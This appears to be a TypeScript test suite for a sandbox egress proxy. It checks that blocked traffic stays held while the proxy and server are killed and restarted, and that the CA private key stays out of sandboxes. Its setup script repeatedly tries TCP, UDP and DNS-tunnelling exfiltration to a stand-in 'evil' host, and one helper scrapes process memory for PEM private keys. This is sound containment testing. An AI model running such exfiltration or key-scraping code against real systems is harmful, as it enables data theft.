/** The end of what holds egress, in mid-traffic: closed, never open, and back. */
import assert from 'node:assert/strict'
import { open, readFile } from 'node:fs/promises'
import { after, before, test } from 'node:test'
import { eventually } from '../../src/lib/testing/eventually.ts'
import { assertKept } from './egress/attack.ts'
import { Inside } from './egress/inside.ts'
import { proxyPid } from './egress/proxy-process.ts'
import { EgressWorld } from './egress/world.ts'
import { heldInMemory, heldOnDisk, processesOf } from './sandbox-insides.ts'
import { AtollServer } from './server.ts'

const value = 'v4lue-' + 'e6'.repeat(14)
const secrets = { TOKEN: { value, allowedHosts: ['api.test'] } }
const opened = new AsyncDisposableStack()
let world: EgressWorld
let server: AtollServer
let inside: Inside
before(async () => {
  world = opened.use(await EgressWorld.make())
  server = opened.use(await AtollServer.start({ env: world.env }))
  inside = await Inside.make(server, world, {
    egress: { mode: 'list', allow: ['api.test', 'other.test', 'read.test'] },
    secrets,
  })
  await startTries()
})
after(() => opened.disposeAsync())

/** Processes that try what is not allowed, all the time, as fast as they can. */
async function startTries(): Promise<void> {
  await inside.write(
    '/root/tries.py',
    Buffer.from(`
from probe import *
tries = [
    lambda: socket.create_connection(('${world.evil}', 9000), 2).sendall(b'out\\n'),
    lambda: socket.create_connection(('${world.evil}', 443), 2).sendall(hello(['evil.test'])),
    lambda: socket.create_connection(('${world.evil}', 80), 2).sendall(request('evil.test', '/out')),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'out', ('${world.evil}', 7777)),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query('out.evil.test'), ('${world.main}', 53)),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query('out.evil.test'), (server(), 53)),
]
at = 0
while True:
    attempt(tries[at % len(tries)]); at += 1; time.sleep(0.002)
    if at % 100 == 0: open('/tmp/tried', 'w').write(str(at))`),
  )
  await inside.start('cd /root && exec python3 tries.py', '/tmp/tries')
  await inside.says('/tmp/tried', /\d/)
}

async function tried(): Promise<number> {
  return Number(await inside.sh('cat /tmp/tried'))
}

/** Nothing of what was tried has come out, though it was tried meanwhile. */
async function assertHeld(mark: number, triedBefore: number): Promise<void> {
  await eventually(async () => assert.ok((await tried()) > triedBefore + 200), { timeoutMs: 300_000 })
  const seen = await world.since(mark)
  assertKept(seen, world)
  assert.deepEqual(
    seen.filter(
      (entry) =>
        (entry.kind === 'udp' && entry.data === 'out') || (entry.kind === 'dns' && entry.name.includes('evil')),
    ),
    [],
  )
}

async function works(): Promise<void> {
  await eventually(
    async () => {
      const said = await inside.python(
        `print(status(tls('api.test', ca=None, data=request('api.test', headers='X-Key: %s\\r\\n' % os.environ['TOKEN']))))`,
      )
      assert.equal(said, '200')
    },
    { what: 'a request through the proxy' },
  )
}

test('proxy: it runs as a user of its own, without capabilities, and cannot gain any', async () => {
  const status = await readFile(`/proc/${await proxyPid(server)}/status`, 'utf8')
  const field = (name: string) => new RegExp(`^${name}:\\s*(\\S+)`, 'm').exec(status)?.[1]
  assert.notEqual(field('Uid'), '0')
  for (const name of ['CapEff', 'CapPrm', 'CapInh', 'CapBnd', 'CapAmb']) assert.match(field(name) ?? '', /^0+$/, name)
  assert.equal(field('NoNewPrivs'), '1')
})

test('proxy: it is killed in mid-traffic: connections end, nothing comes out, another one takes over with the same rules', async () => {
  await works()
  await inside.start(`curl -sSN -H "X-Key: $TOKEN" https://api.test/drip; echo ended`, '/tmp/read')
  await inside.start(`curl -sSN --cacert /root/world.pem https://other.test/drip; echo ended`, '/tmp/passed')
  for (const file of ['/tmp/read', '/tmp/passed']) await inside.says(file, /drop/)
  const mark = await world.mark()
  for (let round = 0; round < 3; round += 1) {
    const earlier = await tried()
    const pid = await proxyPid(server)
    process.kill(pid, 'SIGKILL')
    for (const file of ['/tmp/read', '/tmp/passed']) await inside.says(file, /ended/)
    assert.notEqual(await proxyPid(server, pid), pid)
    await works()
    await assertHeld(mark, earlier)
  }
})

test('server: it is killed: what runs is held meanwhile, and again after its start', async () => {
  const mark = await world.mark()
  const earlier = await tried()
  const pid = await proxyPid(server)
  await server.kill()
  await eventually(async () => assert.rejects(readFile(`/proc/${pid}/environ`)), { what: 'the end of the proxy' })
  await server.restart()
  await works()
  await assertHeld(mark, earlier)
})

test('authority: its private key is in the process of the host, and nowhere in a sandbox, its disk or its saved memory', async () => {
  const keys = await privateKeysIn([await proxyPid(server), server.pid])
  assert.ok(keys.length > 0, 'a key is found where it must be')
  assert.deepEqual(await heldInMemory(await processesOf(inside.id), keys), [])
  const said = await inside.sh(`cat /usr/local/share/ca-certificates/* /etc/ssl/certs/ca-certificates.crt; env; ls /`)
  assert.ok(keys.every((key) => !said.includes(key)) && !said.includes('PRIVATE KEY'))
  await server.json('POST', `/api/sandboxes/${inside.id}/hibernate`)
  assert.deepEqual(await heldOnDisk(server.dataDir, [...keys, value]), [])
  assert.ok(keys.every((key) => !server.output.includes(key)))
})

/** The first lines of private keys in PEM that processes have in memory. */
async function privateKeysIn(pids: number[]): Promise<string[]> {
  const found = new Set<string>()
  for (const pid of pids) {
    const maps = await readFile(`/proc/${pid}/maps`, 'utf8')
    await using memory = await open(`/proc/${pid}/mem`)
    for (const [, from = '', to = ''] of maps.matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
      const start = Number.parseInt(from, 16)
      const length = Number.parseInt(to, 16) - start
      if (length > 256 * 1024 ** 2) continue
      const { buffer, bytesRead } = await memory
        .read(Buffer.alloc(length), { position: start })
        .catch(() => ({ buffer: Buffer.alloc(0), bytesRead: 0 }))
      const text = buffer.toString('latin1', 0, bytesRead)
      for (const [, line = ''] of text.matchAll(/BEGIN (?:EC )?PRIVATE KEY-----(?:\\n|\n)([A-Za-z0-9+/]{64})/g))
        found.add(line)
    }
  }
  return [...found]
}
